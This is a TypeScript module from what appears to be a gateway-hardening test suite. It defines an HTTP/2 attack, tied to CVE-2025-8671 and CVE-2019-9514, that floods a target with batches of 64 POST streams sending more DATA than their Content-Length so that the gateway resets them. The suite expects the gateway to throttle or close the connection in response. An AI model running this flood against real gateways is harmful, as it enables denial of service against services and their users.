// Requests that the gateway has to reset: more DATA than their Content-Length.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2025-8671, CVE-2019-9514',
  does: 'makes the gateway reset its streams, by more DATA than it announced',
  who: ['known', 'unknown'],
  answers: [
    '200',
    '400',
    '401',
    '403',
    '405',
    '413',
    'RST_STREAM PROTOCOL_ERROR',
    'RST_STREAM NO_ERROR',
    'GOAWAY PROTOCOL_ERROR',
    'RST_STREAM STREAM_CLOSED',
    'RST_STREAM REFUSED_STREAM',
  ],
  must: ['GOAWAY ENHANCE_YOUR_CALM', 'closed', '429'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const post = request(head(target, 'POST', '/api/v1/namespaces/default/configmaps', 'content-length', '1'), 0)
      return { next: () => connection.batch(64, (stream) => Buffer.concat([post(stream), h2.data(stream, 'xx')])) }
    }),
}
